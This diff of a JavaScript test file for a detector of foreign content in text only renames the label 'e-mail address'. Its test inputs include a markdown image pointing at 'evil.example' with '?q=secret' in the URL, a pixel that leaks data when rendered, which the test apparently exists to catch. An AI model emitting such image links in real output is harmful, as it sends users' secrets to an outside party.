@@ -63,7 +63,7 @@ describe("findForeignParts", () => {
     ["![pixel](https://evil.example/?q=secret)", "image"],
     ["Hello <b>you</b>", "HTML"],
     ["<!-- hidden -->", "HTML"],
-    ["Write to help@evil.example", "e-mail address"],
+    ["Write to help@evil.example", "email address"],
     ["Call +49 30 99999999", "phone number"],
     ["It costs 1300 €.", "number"],
     ["It costs 12 €.", "number"],
